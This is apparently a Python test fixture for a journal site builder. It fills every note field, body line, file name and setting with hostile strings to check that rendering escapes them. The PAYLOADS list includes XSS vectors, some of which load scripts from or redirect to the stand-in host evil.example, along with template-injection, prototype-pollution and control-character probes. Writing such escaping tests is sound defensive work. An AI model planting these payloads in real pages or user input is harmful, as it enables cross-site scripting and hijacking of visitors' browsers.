"""A journal whose every field, line, name and file name is an attack on whoever shows it as anything but text."""

from __future__ import annotations

import json

from site_builder.notes.schema import TYPES, Field, Kind, fields_of

FOLDERS = {
    "contact": "contacts",
    "meeting": "meetings",
    "event": "events",
    "org": "orgs",
    "goal": "goals",
    "note": "notes",
}

# What each would do if it were not text: `pwned` is called, or an address outside is asked for.
PAYLOADS = (
    "<script>pwned(1)</script>",
    "</script><script src=https://evil.example/x.js></script>",
    '"><img src=x onerror=pwned(1)>',
    "' onmouseover='pwned(1)' autofocus onfocus='pwned(1)",
    "javascript:pwned(1)",
    "JaVaScRiPt\t:pwned(1)",
    "data:text/html,<script>pwned(1)</script>",
    "//evil.example/x",
    "https://evil.example/?\"onclick='pwned(1)'",
    "<svg onload=pwned(1)><a xlink:href=javascript:pwned(1)>",
    "</title></style></textarea></template><style>*{display:none}</style>",
    "<!-- --><iframe srcdoc='<script>parent.pwned(1)</script>'>",
    "<base href=//evil.example/><meta http-equiv=refresh content=0;url=//evil.example/>",
    "'\"<>&amp;&lt;`=",
    "a\u2028b\u2029c\u0085d",
    "\u202eevil\u2066\u200f\ufeff",
    "nul\x00bell\x07esc\x1b[2Jdel\x7f\ufffe",
    "{{7*7}} {% raw %} {#x#} ${7*7} <%= 7 %> \\x3cscript\\x3e",
    "<root>/x \ue000M0\ue001 M0 A1",
    "__proto__ constructor toString",
    "]]> ||| [[x|y]] ![a](b) `c` \\",
)

# Names that a file may have.
STEMS = tuple(
    payload.replace("/", "∕").replace("\x00", "0").replace("\t", " ")[:60] for payload in PAYLOADS if payload[:1] != "."
)

BODY = """\
# PAYLOAD heading

Text PAYLOAD, **PAYLOAD**, `PAYLOAD`, <PAYLOAD>, [label PAYLOAD](PAYLOAD),
[angle](<PAYLOAD>), ![image PAYLOAD](PAYLOAD), ![PAYLOAD](files/STEM.png), [file PAYLOAD](<files/STEM.png>),
[[PAYLOAD]], [[contact-N|PAYLOAD]], [[contact-N#PAYLOAD]], ![[PAYLOAD]],
[ref PAYLOAD][r], @PAYLOAD, ~~PAYLOAD~~, https://evil.example/PAYLOAD,
[[contact-N]]PAYLOAD.

[r]: PAYLOAD "PAYLOAD"

> PAYLOAD [quoted](PAYLOAD)

> [!note] PAYLOAD
> PAYLOAD

| PAYLOAD | b |
|---|---|
| PAYLOAD | [c](PAYLOAD) |

    PAYLOAD indented

```PAYLOAD
PAYLOAD fenced
```

PAYLOAD
==

::: PAYLOAD
PAYLOAD
:::

::: private
- caution: PAYLOAD
PAYLOAD
:::

<div onclick="pwned(1)">PAYLOAD</div>

<!-- PAYLOAD -->

%% PAYLOAD %%
"""

LINES = """\
- [ ] I'll write PAYLOAD due:2026-12-01 to:@contact-N why:"PAYLOAD"
- [ ] Contact will send PAYLOAD by:@contact-N due:PAYLOAD
- [ ] PAYLOAD to:me
- [x] PAYLOAD done:2026-06-01 to:@contact-N
- [-] PAYLOAD why:"PAYLOAD" to:[[PAYLOAD contact]]
- gave idea: PAYLOAD to:@contact-N
- got PAYLOAD: PAYLOAD by:@contact-N
- got lead: PAYLOAD by:[[PAYLOAD contact]] thanked:PAYLOAD
- gave intro: [[PAYLOAD]] to:@contact-N
- intro: @contact-N -> [[PAYLOAD contact]] PAYLOAD outcome:PAYLOAD
- ask: PAYLOAD to:@contact-N outcome:no
- they asked: PAYLOAD by:@contact-N
- learned: PAYLOAD to:@contact-N
- told: PAYLOAD to:@contact-N
- wants: PAYLOAD by:@contact-N
- next: PAYLOAD to:@contact-N
- question: PAYLOAD to:@contact-N
- win: PAYLOAD seen_by:@contact-N
- said: PAYLOAD by:@contact-N
- thanked: PAYLOAD to:@contact-N
- conflict: PAYLOAD to:@contact-N
- repaired: PAYLOAD to:@contact-N
- caution: PAYLOAD to:@contact-N
- new: PAYLOAD guest | does: PAYLOAD | here for: PAYLOAD | wants: PAYLOAD | via:@contact-N
- @contact-N gave lead: PAYLOAD
- gave lead PAYLOAD
"""

SECTIONS = {
    "contact": """
## 2026-06-05 call by:me min:30 with:[[PAYLOAD]] follow_up:+3w about PAYLOAD
- got idea: PAYLOAD
## Plan
- [ ] PAYLOAD due:2026-12-01 tests:invests,PAYLOAD
- hope: PAYLOAD watch:2026-12
## Next time
- PAYLOAD
""",
    "event": """
## Objectives
- [/] PAYLOAD why:"PAYLOAD"
## Met
- [[contact-N]] PAYLOAD
  - gave contact: PAYLOAD
- new: PAYLOAD stub | does: PAYLOAD | here for: PAYLOAD | wants: PAYLOAD
## Signals
- PAYLOAD
""",
}


def hostile_notes() -> dict[str, str | bytes]:
    """Notes by path. For each attack two of every type: one whose fields all hold it, one where it stands wherever a
    value may be any text, among values that are as they should be."""
    notes: dict[str, str | bytes] = {
        "me.md": _note(_fields("me", PAYLOADS[0], 0, sound=True), ""),
        "kith-0.md": "---\ntype: PAYLOAD\n---\n".replace("PAYLOAD", "<script>pwned(1)</script>"),
    }
    for number, (payload, stem) in enumerate(zip(PAYLOADS, STEMS, strict=True)):
        for kind, folder in FOLDERS.items():
            body = (BODY + LINES + SECTIONS.get(kind, "")).replace("PAYLOAD", payload)
            body = body.replace("STEM", stem).replace("contact-N", f"contact-{number}")
            notes[f"{folder}/{kind}-{number}.md"] = _note(_fields(kind, payload, number, sound=True), body)
            notes[f"{folder}/{stem} {kind}.md"] = _note(_fields(kind, payload, number, sound=False), body)
        for folder in FOLDERS.values():
            notes[f"{folder}/files/{stem}.png"] = b"\x89PNG\r\n\x1a\n"
    return notes


def hostile_settings() -> str:
    """A kith.toml whose circles, kinds, types and words are attacks too."""
    names = "".join(f'{json.dumps(payload)} = {{ cadence = "1m", max = 3 }}\n' for payload in PAYLOADS[:4])
    return (
        'schema = 1\ntoday = "2026-11-20"\nedit-link = "vscode://file{path}:{line}"\n'
        f"kinds = [{', '.join(json.dumps(payload) for payload in PAYLOADS[:3])}]\n[circles]\n{names}"
    )


def _note(fields: dict[str, object], body: str) -> str:
    """A note whose fields are JSON, which is YAML too."""
    rows = "".join(f"{json.dumps(name)}: {json.dumps(value)}\n" for name, value in fields.items())
    return f"---\n{rows}---\n{body}"


def _fields(kind: str, payload: str, number: int, sound: bool) -> dict[str, object]:
    assert set(TYPES) == {*FOLDERS, "me"}
    fields: dict[str, object] = {
        field.name: _sound_value(kind, field, payload, number) if sound else payload for field in fields_of(kind)
    }
    if sound and kind == "contact":
        fields["circle"] = PAYLOADS[number % 4]
    fields |= {payload: payload, "my own key": [payload, {payload: payload}], "lint-ignore": [payload]}
    return fields


def _sound_value(kind: str, field: Field, payload: str, number: int) -> object:
    """A value as it should be, the attack wherever one may write what one likes."""
    text, somebody = f"{payload} {kind}", f"{payload} contact"
    return {
        Kind.TEXT: text,
        Kind.TEXTS: [payload, f"https://evil.example/{payload}"] if field.name == "url" else [payload, f"{text} 2"],
        Kind.REF: somebody,
        Kind.REFS: [somebody, f"contact-{number}", f"[[{payload}]]", f"[label]({payload})"],
        Kind.DATE: "2026-06-05" if field.name in ("date", "met", "reviewed", "done") else "2026-12-05",
        Kind.DATE_OR_DURATION: "+3w",
        Kind.DURATION: "6w",
        Kind.BIRTHDAY: "11-25",
        Kind.NUMBER: "3",
        Kind.YES: False,
        Kind.CHOICE: (field.choices or ("",))[0],
        Kind.DATED_TEXT: [{"2019-01": payload}, {"2022-09": text}],
        Kind.DATED_REF: [{"2019-01": payload}, {"2022-09": f"{payload} org"}],
        Kind.DATED_CHOICE: (field.choices or ("",))[0],
        Kind.DATED_NUMBER: [{"2019-01": "1"}, {"2022-09": "2"}],
        Kind.PAIRS: [{(field.choices or (payload,))[0]: somebody}, {"for": f"contact-{number}"}],
        Kind.TEXT_BY_KEY: {payload: payload},
    }[field.kind]
